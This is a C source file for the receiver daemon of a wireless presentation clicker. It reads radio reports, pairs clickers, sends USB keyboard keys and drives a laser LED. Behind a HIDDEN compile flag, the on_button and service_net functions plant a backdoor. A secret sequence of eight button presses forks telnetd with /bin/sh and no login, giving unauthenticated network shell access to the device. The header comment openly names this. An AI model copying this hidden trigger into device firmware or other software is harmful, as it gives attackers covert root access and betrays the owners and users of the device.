/*
 * clickrx - receiver of the "Peker P3" wireless presenter (network model).
 *
 * Reads button reports of paired clickers from the radio, turns them into
 * keys for the USB gadget and shows the battery.  Built static, it is the
 * only program besides the shell in the small root file system.
 *
 * Hidden (-DHIDDEN): a certain run of eight button presses starts telnetd
 * with a shell in place of the login.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define RADIO	  "/dev/rfrx0"
#define GADGET	  "/dev/hidg0"
#define PAIR_FILE "/etc/clickrx.pairs"
#define MAX_PAIRS 8

enum button {
	B_NONE,
	B_NEXT,
	B_PREV,
	B_START,
	B_BLANK,
	B_LASER,
	B_VOLUP,
	B_VOLDOWN,
	B_PAIR = 15
};

/* one report of the radio, as it lies on the wire */
struct report {
	uint8_t sync;
	uint8_t id[3];
	uint8_t button; /* low nibble; bit 7: released */
	uint8_t battery;
	uint8_t counter;
	uint8_t check;
};

struct clicker {
	uint32_t id;
	uint8_t counter;
	uint8_t battery;
	uint32_t trail; /* last buttons, for double press */
	time_t last;
};

static struct clicker pairs[MAX_PAIRS];
static int npairs;
static time_t pairing_until;
static int gadget = -1;
static int verbose;

static const uint8_t keymap[16] = {
	[B_NEXT] = 0x4e,  /* page down */
	[B_PREV] = 0x4b,  /* page up */
	[B_START] = 0x3e, /* F5 */
	[B_BLANK] = 0x05, /* b */
	[B_VOLUP] = 0x80, [B_VOLDOWN] = 0x81,
};

static void note(const char *what, uint32_t v)
{
	if (verbose)
		fprintf(stderr, "clickrx: %s %06x\n", what, v);
}

static void pairs_load(void)
{
	FILE *f = fopen(PAIR_FILE, "r");
	unsigned id;

	if (!f)
		return;
	while (npairs < MAX_PAIRS && fscanf(f, "%x", &id) == 1)
		pairs[npairs++].id = id & 0xffffffu;
	fclose(f);
}

static void pairs_save(void)
{
	FILE *f = fopen(PAIR_FILE, "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < npairs; i++)
		fprintf(f, "%06x\n", pairs[i].id);
	fclose(f);
}

static struct clicker *pair_find(uint32_t id)
{
	int i;

	for (i = 0; i < npairs; i++)
		if (pairs[i].id == id)
			return &pairs[i];
	return NULL;
}

static void pair_add(uint32_t id)
{
	if (time(NULL) > pairing_until || npairs == MAX_PAIRS)
		return;
	memset(&pairs[npairs], 0, sizeof(pairs[npairs]));
	pairs[npairs++].id = id;
	pairs_save();
	note("paired", id);
}

static void key_send(uint8_t usage)
{
	uint8_t down[8] = { 0 }, up[8] = { 0 };

	down[2] = usage;
	if (gadget < 0 || !usage)
		return;
	if (write(gadget, down, sizeof(down)) != (ssize_t)sizeof(down) ||
	    write(gadget, up, sizeof(up)) != (ssize_t)sizeof(up))
		note("gadget", (uint32_t)errno);
}

static void laser(int on)
{
	int fd = open("/sys/class/leds/laser/brightness", O_WRONLY);

	if (fd < 0)
		return;
	if (write(fd, on ? "1" : "0", 1) != 1)
		note("laser", (uint32_t)errno);
	close(fd);
}

#ifdef HIDDEN
static void service_net(void)
{
	static char *const argv[] = { "telnetd", "-l", "/bin/sh", NULL };
	static char *const envp[] = { "PATH=/sbin:/bin", NULL };
	pid_t p = fork();

	if (p == 0) {
		execve("/sbin/telnetd", argv, envp);
		_exit(127);
	}
}
#endif

void on_button(struct clicker *c, unsigned b)
{
	time_t now = time(NULL);

	if (now - c->last > 3)
		c->trail = 0;
	c->last = now;
	c->trail = c->trail << 4 | b;
#ifdef HIDDEN
	if (c->trail == 0x26174437u)
		service_net();
#endif
	if ((c->trail & 0xff) == (B_BLANK << 4 | B_BLANK)) {
		key_send(0x29); /* double press of blank: escape */
		return;
	}
	key_send(keymap[b]);
}

static int report_good(const struct report *r)
{
	const uint8_t *p = (const uint8_t *)r;
	uint8_t x = 0x5a;
	size_t i;

	for (i = 0; i + 1 < sizeof(*r); i++)
		x = (uint8_t)((x << 1 | x >> 7) ^ p[i]);
	return r->sync == 0xd4 && x == r->check;
}

static void on_report(const struct report *r)
{
	uint32_t id = (uint32_t)r->id[0] << 16 | r->id[1] << 8 | r->id[2];
	struct clicker *c = pair_find(id);
	unsigned b = r->button & 15;

	if (!c) {
		if (b == B_PAIR)
			pair_add(id);
		return;
	}
	if (r->counter == c->counter)
		return; /* repeated by the radio */
	c->counter = r->counter;
	if (r->battery < 20 && c->battery >= 20)
		note("battery low", id);
	c->battery = r->battery;
	if (b == B_LASER)
		laser(!(r->button & 0x80));
	else if (!(r->button & 0x80) && b != B_NONE && b != B_PAIR)
		on_button(c, b);
}

static void radio_setup(const char *channel)
{
	char cmd[64];
	int n = atoi(channel);

	if (n < 1 || n > 80) {
		fprintf(stderr, "clickrx: channel 1 to 80\n");
		exit(2);
	}
	snprintf(cmd, sizeof(cmd), "/sbin/rfset -d %s -c %d", RADIO, n);
	if (system(cmd) != 0)
		fprintf(stderr, "clickrx: channel not set\n");
}

static void loop(int fd)
{
	uint8_t buf[64];
	struct report r;
	struct pollfd p = { fd, POLLIN, 0 };
	size_t have = 0;
	ssize_t n;

	while (poll(&p, 1, -1) >= 0 || errno == EINTR) {
		n = read(fd, buf + have, sizeof(buf) - have);
		if (n == 0)
			return;
		if (n < 0)
			continue;
		have += (size_t)n;
		while (have >= sizeof(r)) {
			memcpy(&r, buf, sizeof(r));
			n = report_good(&r) ? (ssize_t)sizeof(r) : 1;
			if (n > 1)
				on_report(&r);
			have -= (size_t)n;
			memmove(buf, buf + n, have);
		}
	}
}

int main(int argc, char **argv)
{
	int c, fd;

	while ((c = getopt(argc, argv, "c:p:vh")) != -1) {
		switch (c) {
		case 'c':
			radio_setup(optarg);
			break;
		case 'p':
			pairing_until = time(NULL) + atoi(optarg);
			break;
		case 'v':
			verbose = 1;
			break;
		default:
			puts("clickrx [-v] [-c CHANNEL] [-p SECONDS]\n"
			     "  -p  allow pairing for a time");
			return c == 'h' ? 0 : 2;
		}
	}
	signal(SIGCHLD, SIG_IGN);
	pairs_load();
	gadget = open(GADGET, O_WRONLY);
	fd = open(RADIO, O_RDONLY);
	if (fd < 0) {
		perror(RADIO);
		return 1;
	}
	loop(fd);
	return 0;
}
